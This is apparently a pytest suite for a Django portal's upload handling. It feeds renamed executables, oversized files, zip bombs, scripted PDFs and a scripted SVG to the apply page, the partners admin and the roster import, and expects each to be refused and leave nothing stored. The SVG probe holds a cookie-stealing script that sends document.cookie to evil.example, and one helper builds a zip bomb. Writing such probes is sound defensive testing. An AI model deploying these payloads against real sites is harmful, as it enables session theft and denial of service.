"""Upload probes through the real pages: files that lie about what they are, or are too big.

Each probe goes through every way a file enters the portal — an application document on the
apply page, activity evidence in the partners admin and its service, an employee roster in the
matchmaking admin and its service — and must be refused with a message that says why, leaving no
row and no file behind (MEDIA_ROOT is a fresh folder per test, so "no file" is exact).
"""

from __future__ import annotations

import io
import zipfile
from pathlib import Path

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client

from accounts.roles import role_permissions_sync
from matchmaking import services as matchmaking_services
from matchmaking.models import RosterEntry, RosterUpload
from partners import services as partners_services
from partners.models import ActivityEvidence
from programs.models import ApplicationDocument
from tests.files import FAKE_PDF, PDF, pdf_with_attachment, pdf_with_javascript
from tests.matchmaking.factories import AgencyFactory as MeetupAgencyFactory
from tests.matchmaking.factories import verifier_for
from tests.partners.factories import ActivityReportFactory, AgencyFactory, ClauseFactory, staff_of
from tests.programs.factories import ProgramFactory, RequiredDocumentFactory

pytestmark = pytest.mark.django_db

LIMIT = 1024 * 1024  # UPLOAD_MAX_BYTES in these tests: 1 MB

WRONG_TYPE = "올릴 수 있는 파일 형식이 아닙니다"
TOO_BIG = "파일이 너무 큽니다"
NO_ADDRESSES = "메일 주소를 찾지 못했습니다"
NOT_A_PDF = "PDF 파일을 읽을 수 없습니다"
ACTIVE_PDF = "스크립트나 첨부 파일이 들어 있는 PDF"


def windows_exe() -> bytes:
    """The start of a PE file: the MZ header and the DOS stub every .exe carries."""
    header = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00\xb8" + b"\x00" * 43 + b"\x80\x00\x00\x00"
    return (
        header + b"\x0e\x1f\xba\x0e\x00\xb4\x09\xcd\x21This program cannot be run in DOS mode.\r\r\n$" + b"\x00" * 400
    )


def oversized_pdf() -> bytes:
    """A real PDF header, but half again over the limit: refused for its size alone."""
    return b"%PDF-1.4\n" + b"0" * (LIMIT + LIMIT // 2)


def svg_with_script() -> bytes:
    return (
        b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.cookie)">'
        b"<script>fetch('https://evil.example/?c='+document.cookie)</script></svg>"
    )


def zip_bomb() -> bytes:
    """A few KB that unpack to 64 MB of zeros."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("zeros.bin", b"\x00" * (64 * 1024 * 1024))
    data = buffer.getvalue()
    assert len(data) < 200_000
    return data


# (probe id, file name it claims, content, what the refusal says)
PROBES = [
    ("renamed-exe", "신청서.pdf", windows_exe, WRONG_TYPE),
    ("oversized", "큰파일.pdf", oversized_pdf, TOO_BIG),
    ("svg-script", "사진.png", svg_with_script, WRONG_TYPE),
    ("zip-bomb", "증명서.pdf", zip_bomb, WRONG_TYPE),
    ("fake-pdf-script", "증명서.pdf", lambda: FAKE_PDF, NOT_A_PDF),
    ("pdf-javascript", "증명서.pdf", pdf_with_javascript, ACTIVE_PDF),
    ("pdf-embedded-file", "증명서.pdf", pdf_with_attachment, ACTIVE_PDF),
]
# A roster is text: an SVG is text too, so it is refused for holding no address instead.
ROSTER_PROBES = [
    ("renamed-exe", "명단.csv", windows_exe, WRONG_TYPE),
    ("oversized", "명단.csv", lambda: b"a@example.com\n" * (LIMIT // 14 + LIMIT // 28), TOO_BIG),
    ("svg-script", "명단.png", svg_with_script, NO_ADDRESSES),
    ("zip-bomb", "명단.csv", zip_bomb, WRONG_TYPE),
]


@pytest.fixture(autouse=True)
def media(settings, tmp_path) -> Path:
    settings.MEDIA_ROOT = tmp_path / "media"
    settings.UPLOAD_MAX_BYTES = LIMIT
    role_permissions_sync()
    return settings.MEDIA_ROOT


def stored_files(media: Path) -> list[Path]:
    return [p for p in media.rglob("*") if p.is_file()] if media.exists() else []


def upload(name: str, content: bytes, content_type="application/pdf") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, content, content_type=content_type)


def signed_in(user) -> Client:
    client = Client()
    client.force_login(user)
    return client


@pytest.mark.parametrize(("name", "content", "says"), [p[1:] for p in PROBES], ids=[p[0] for p in PROBES])
def test_application_document_is_refused_on_the_apply_page(citizen, media, name, content, says):
    program = ProgramFactory()
    document = RequiredDocumentFactory(program=program)
    client = signed_in(citizen)
    url = f"/programs/{program.slug}/apply/"
    for button in ("save", "submit"):
        response = client.post(url, {f"doc_{document.pk}": upload(name, content()), "consent": "on", button: "1"})
        assert response.status_code == 400  # the form again, with the refusal ("Refused forms")
        assert says in response.content.decode()
    assert not ApplicationDocument.objects.exists()
    assert stored_files(media) == []
    assert not citizen.applications.exclude(status="draft").exists()  # nothing was submitted either


def test_a_sound_pdf_still_goes_through_the_apply_page(citizen, media):
    """The control: the same page keeps a real PDF (so the refusals above are about the files)."""
    program = ProgramFactory()
    document = RequiredDocumentFactory(program=program)
    response = signed_in(citizen).post(
        f"/programs/{program.slug}/apply/", {f"doc_{document.pk}": upload("계획서.pdf", PDF), "save": "1"}
    )
    assert response.status_code == 302
    assert ApplicationDocument.objects.count() == 1 and len(stored_files(media)) == 1


@pytest.fixture
def report():
    agency = AgencyFactory(slug="evidence-agency")
    clause = ClauseFactory(signatories=[agency])
    return ActivityReportFactory(agency=agency, clause=clause)


@pytest.mark.parametrize(("name", "content", "says"), [p[1:] for p in PROBES], ids=[p[0] for p in PROBES])
def test_activity_evidence_is_refused_in_the_partners_admin(report, media, name, content, says):
    client = signed_in(staff_of(report.agency))
    response = client.post(
        f"/admin/partners/activityreport/{report.pk}/change/",
        {
            "clause": report.clause_id,
            "date": report.date.isoformat(),
            "title": report.title,
            "description": report.description,
            "participants": report.participants,
            "evidence-TOTAL_FORMS": "1",
            "evidence-INITIAL_FORMS": "0",
            "evidence-MIN_NUM_FORMS": "0",
            "evidence-MAX_NUM_FORMS": "1000",
            "evidence-0-file": upload(name, content()),
        },
    )
    assert response.status_code == 200
    assert says in response.content.decode()
    assert not ActivityEvidence.objects.exists()
    assert stored_files(media) == []


@pytest.mark.parametrize(("name", "content", "says"), [p[1:] for p in PROBES], ids=[p[0] for p in PROBES])
def test_activity_evidence_is_refused_by_the_service(report, media, name, content, says):
    with pytest.raises(ValidationError) as refusal:
        partners_services.activity_evidence_add(
            report=report, actor=staff_of(report.agency), file=upload(name, content())
        )
    assert says in " ".join(refusal.value.messages)
    assert not ActivityEvidence.objects.exists()
    assert stored_files(media) == []


@pytest.fixture
def roster_agency():
    agency = MeetupAgencyFactory(slug="roster-agency")
    matchmaking_services.roster_import(
        agency=agency, uploaded_by=verifier_for(agency), file=upload("old.csv", b"kept@example.com\n", "text/csv")
    )
    return agency


def assert_old_roster_kept(agency, media) -> None:
    assert list(RosterEntry.objects.filter(agency=agency).values_list("email", flat=True)) == ["kept@example.com"]
    assert RosterUpload.objects.filter(agency=agency).count() == 1
    assert len(stored_files(media)) == 1  # the previous roster's file, nothing new


@pytest.mark.parametrize(("name", "content", "says"), [p[1:] for p in ROSTER_PROBES], ids=[p[0] for p in ROSTER_PROBES])
def test_roster_is_refused_in_the_matchmaking_admin(roster_agency, media, name, content, says):
    client = signed_in(verifier_for(roster_agency, email="roster-verifier@example.com"))
    response = client.post("/admin/matchmaking/rosterupload/add/", {"file": upload(name, content(), "text/csv")})
    assert response.status_code == 200
    assert says in response.content.decode()
    assert_old_roster_kept(roster_agency, media)


@pytest.mark.parametrize(("name", "content", "says"), [p[1:] for p in ROSTER_PROBES], ids=[p[0] for p in ROSTER_PROBES])
def test_roster_is_refused_by_the_service(roster_agency, media, name, content, says):
    with pytest.raises(ValidationError) as refusal:
        matchmaking_services.roster_import(
            agency=roster_agency,
            uploaded_by=verifier_for(roster_agency, email="v2@x.kr"),
            file=upload(name, content(), "text/csv"),
        )
    assert says in " ".join(refusal.value.messages)
    assert_old_roster_kept(roster_agency, media)
